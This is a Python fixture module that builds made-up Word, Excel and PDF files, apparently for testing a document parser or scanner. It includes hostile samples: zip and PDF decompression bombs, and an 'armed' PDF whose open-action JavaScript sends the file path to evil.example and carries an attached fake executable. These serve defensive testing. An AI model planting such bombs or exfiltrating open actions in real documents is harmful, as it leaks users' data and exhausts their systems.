"""Made-up documents, each built here: Word, Excel, PDF, honest and hostile ones."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from xml.sax.saxutils import escape

from pypdf import PdfWriter
from pypdf.actions import JavaScript

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
T = "http://schemas.openxmlformats.org/package/2006/content-types"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
CORE = (
    "http://schemas.openxmlformats.org/package/2006/metadata/core-properties",
    "http://purl.org/dc/elements/1.1/",
)


def packed(parts: Mapping[str, str | bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def unpacked(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n).decode("utf-8", "replace") for n in archive.namelist()}


def relations(*targets: tuple[str, str, str], external: Sequence[tuple[str, str]] = ()) -> str:
    """A part of relations: (id, type's last word, target), and external (type, address)."""
    inside = "".join(
        f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{to}"/>' for i, kind, to in targets
    )
    outside = "".join(
        f'<Relationship Id="x{n}" Type="{R}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(external)
    )
    return f'{HEAD}<Relationships xmlns="{P}">{inside}{outside}</Relationships>'


def types(**overrides: str) -> str:
    """The part of content types: path with _ for / and . -> type."""
    listed = "".join(
        f'<Override PartName="/{name}" ContentType="application/{kind}+xml"/>'
        for name, kind in overrides.items()
    )
    return (
        f'{HEAD}<Types xmlns="{T}"><Default Extension="rels" ContentType="application/'
        f'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/>{listed}</Types>'
    )


def run(text: str, properties: str = "") -> str:
    inside = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f'<w:r>{inside}<w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def paragraph(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def table(*rows: Sequence[str]) -> str:
    lines = (
        f"<w:tr>{''.join(f'<w:tc>{paragraph(run(cell))}</w:tc>' for cell in row)}</w:tr>"
        for row in rows
    )
    return f"<w:tbl>{''.join(lines)}</w:tbl>"


def word_part(name: str, inside: str) -> str:
    return f'{HEAD}<w:{name} xmlns:w="{W}" xmlns:r="{R}">{inside}</w:{name}>'


def docx(
    *body: str,
    more: Mapping[str, str | bytes] | None = None,
    external: Sequence[tuple[str, str]] = (),
) -> bytes:
    core = (
        f'{HEAD}<cp:coreProperties xmlns:cp="{CORE[0]}" xmlns:dc="{CORE[1]}">'
        "<dc:creator>Maria Lopez</dc:creator></cp:coreProperties>"
    )
    kind = "vnd.openxmlformats-officedocument.wordprocessingml.document.main"
    return packed(
        {
            "[Content_Types].xml": types(**{"word/document.xml": kind}),
            "_rels/.rels": relations(
                ("r1", "officeDocument", "word/document.xml"),
                ("r2", "metadata/core-properties", "docProps/core.xml"),
            ),
            "word/document.xml": word_part("document", f"<w:body>{''.join(body)}</w:body>"),
            "word/_rels/document.xml.rels": relations(external=external),
            "docProps/core.xml": core,
            **(more or {}),
        }
    )


def cell(reference: str, value: str, kind: str = "n", style: int = 0, formula: str = "") -> str:
    inside = f"<f>{escape(formula)}</f>" if formula else ""
    return f'<c r="{reference}" t="{kind}" s="{style}">{inside}<v>{escape(value)}</v></c>'


def row(number: int, *cells: str, hidden: bool = False) -> str:
    said = ' hidden="1"' if hidden else ""
    return f'<row r="{number}"{said}>{"".join(cells)}</row>'


def sheet(*rows: str, before: str = "", behind: str = "") -> str:
    return (
        f'{HEAD}<worksheet xmlns="{S}" xmlns:r="{R}">{before}'
        f"<sheetData>{''.join(rows)}</sheetData>{behind}</worksheet>"
    )


STYLES = (
    f'{HEAD}<styleSheet xmlns="{S}"><numFmts><numFmt numFmtId="164" formatCode="yyyy\\-mm\\-dd"/>'
    '</numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="10"/>'
    '<xf numFmtId="164"/><xf numFmtId="22"/></cellXfs></styleSheet>'
)


def xlsx(
    sheets: Mapping[str, str],
    strings: Sequence[str] = (),
    *,
    states: Mapping[str, str] | None = None,
    more: Mapping[str, str | bytes] | None = None,
) -> bytes:
    listed, targets, parts = [], [], {}
    for number, (name, content) in enumerate(sheets.items(), 1):
        state = (states or {}).get(name)
        said = f' state="{state}"' if state else ""
        listed.append(f'<sheet name="{escape(name)}" sheetId="{number}"{said} r:id="r{number}"/>')
        targets.append((f"r{number}", "worksheet", f"worksheets/sheet{number}.xml"))
        parts[f"xl/worksheets/sheet{number}.xml"] = content
    shared = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
    kind = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main"
    return packed(
        {
            "[Content_Types].xml": types(**{"xl/workbook.xml": kind}),
            "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}">'
            f"<sheets>{''.join(listed)}</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": relations(*targets),
            "xl/sharedStrings.xml": f'{HEAD}<sst xmlns="{S}">{shared}</sst>',
            "xl/styles.xml": STYLES,
            **parts,
            **(more or {}),
        }
    )


def bomb(name: str, megabytes: int, around: tuple[bytes, bytes]) -> bytes:
    """A zip file whose part `name` unpacks to so many megabytes of blanks."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as part,
    ):
        part.write(around[0])
        for _ in range(megabytes):
            part.write(b" " * (1 << 20))
        part.write(around[1])
    return made.getvalue()


def pdf(*pages: str, picture: bool = False) -> bytes:
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", ""]
    kids = []
    for text in pages:
        lines = "".join(f"({_literal(line)}) Tj T* " for line in text.split("\n"))
        drawn = f"BT /F1 12 Tf 72 720 Td 14 TL {lines}ET" if text else ""
        drawn += " /Im1 Do" if picture else ""
        number = len(objects) + 1
        kids.append(f"{number} 0 R")
        pictured = "/XObject << /Im1 4 0 R >>" if picture else ""
        objects += [
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {number + 1} 0 R "
            f"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
            f"{pictured} >> >>",
            f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream",
        ]
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(kids)} >>"
    if picture:
        image = "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
        image += "/ColorSpace /DeviceGray /Length 1 >>\nstream\n0\nendstream"
        objects = _with_picture(objects, image)
    return _pdf(objects)


def _with_picture(objects: list[str], image: str) -> list[str]:
    """The picture as an object of its own, behind all others."""
    number = len(objects) + 1
    return [
        *(
            one.replace("4 0 R >>", f"{number} 0 R >>", 1) if "/Im1 4" in one else one
            for one in objects
        ),
        image,
    ]


def _literal(text: str) -> str:
    return text.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")


def _pdf(objects: Sequence[str]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    start = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    return bytes(out + f"startxref\n{start}\n%%EOF\n".encode())


def armed_pdf(text: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf(text)))
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/?' + this.path)"))
    writer.add_attachment("payload.exe", b"MZ" + bytes(64))
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def locked_pdf(text: str, password: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf(text)))
    writer.encrypt(password, algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF whose page unpacks to so many megabytes."""
    packed_page = zlib.compress(b" " * (megabytes << 20), 9)
    content = pdf("x")
    head = f"<< /Length {len(packed_page)} /Filter /FlateDecode >>\nstream\n".encode()
    at = content.index(b"<< /Length")
    end = content.index(b"endstream", at)
    return content[:at] + head + packed_page + b"\n" + content[end:]
